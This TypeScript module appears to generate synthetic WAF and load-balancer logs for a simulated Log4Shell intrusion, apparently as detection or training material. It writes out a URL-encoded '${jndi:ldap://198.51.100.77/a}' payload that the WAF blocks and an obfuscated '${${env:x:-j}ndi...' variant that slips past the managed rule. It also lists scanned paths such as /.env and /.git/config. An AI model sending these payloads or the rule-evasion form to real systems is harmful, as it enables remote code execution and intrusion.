import { MINUTE_MS } from '../clock.ts'
import { albLine, connectionLine } from '../sources/alb-line.ts'
import type { LogLine } from '../sources/line-log.ts'
import { wafLine } from '../sources/waf-line.ts'
import type { WebRequest } from '../sources/web-requests.ts'
import type { Plot } from './plot.ts'

const LOG4SHELL_RULES = {
  group: 'AWSManagedRulesKnownBadInputsRuleSet',
  rule: 'Log4JRCE_QUERYSTRING',
  type: 'SIZE_CONSTRAINT',
  data: '${jndi:ldap',
} as const

const EXTENSION_RULE = {
  group: 'AWSManagedRulesCommonRuleSet',
  rule: 'RestrictedExtensions_URIPATH',
  type: 'SIZE_CONSTRAINT',
  data: '.config',
} as const

const OLD_TLS_TRIES = 4
const SEARCHED = ['/.env', '/.git/config', '/wp-login.php', '/actuator/env', '/manager/html', '/phpmyadmin/'] as const
/** What the web ACL stops, and how it was written in the end: a form that the rules did not know. */
const STOPPED_QUERY = 'q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.77%2Fa%7D'
const PASSED_QUERY = 'q=%24%7B%24%7Benv%3Ax%3A-j%7Dndi%3Aldap%3A%2F%2F198.51.100.77%2Fa%7D'

/** The attack as web ACL and load balancer show it: a search for holes, tries that are stopped, and one that gets through. */
export function storyWeb(plot: Plot): { alb: LogLine[]; waf: LogLine[] } {
  const tries = [
    ...SEARCHED.map((path, index) => ({
      time: plot.at.probed + 3 * MINUTE_MS + index * 2_000,
      path,
      query: '',
      blocked: false,
      status: 404,
    })),
    ...[0, 1, 2, 3].map((index) => ({
      time: plot.at.entered - 12 * MINUTE_MS + index * 9_000,
      path: '/search',
      query: STOPPED_QUERY,
      blocked: true,
      status: 403,
    })),
    { time: plot.at.entered - 20_000, path: '/search', query: PASSED_QUERY, blocked: false, status: 200 },
  ]
  const random = plot.site.random.fork('story', 'web')
  const lines = tries.map(({ time, path, query, blocked, status }) => {
    const request = requestOf(plot, path, query, blocked)
    const traceId = `1-${random.hex(8)}-${random.hex(24)}`
    const answer = {
      target: blocked ? undefined : plot.instance.address,
      status,
      seconds: 0.04,
      received: 240,
      sent: 900,
      port: random.between(40_000, 60_000),
      traceId,
    }
    return {
      waf: wafLine(plot.site, plot.region, time, request, blocked ? 'BLOCK' : 'ALLOW', traceId),
      alb: albLine(plot.site, plot.region, time + 40, request, answer),
      time,
    }
  })
  const { region } = plot.region
  return {
    waf: lines.map(({ waf, time }) => ({ time, region, line: waf })),
    alb: [...lines.map(({ alb, time }) => ({ time: time + 40, region, line: alb })), ...refusedConnections(plot)],
  }
}

/** Before it asks for anything, the search tries which old forms of TLS are let in: none. */
function refusedConnections({ at, attacker, region }: Plot): LogLine[] {
  return Array.from({ length: OLD_TLS_TRIES }, (_, index) => {
    const time = at.probed + 2 * MINUTE_MS + index * 1_500
    const line = connectionLine(time, attacker.address, 41_000 + index, '- - -', 'Failed:UnmappedConnectionError')
    return { time, region: region.region, line, kind: 'connection' }
  })
}

function requestOf({ attacker }: Plot, path: string, query: string, blocked: boolean): WebRequest {
  return {
    client: attacker.address,
    country: 'RO',
    asn: Number(attacker.asn),
    method: 'GET',
    path,
    query,
    userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
    // The rule about extensions only counts.
    attack: blocked ? LOG4SHELL_RULES : path === '/.git/config' ? EXTENSION_RULE : undefined,
  }
}
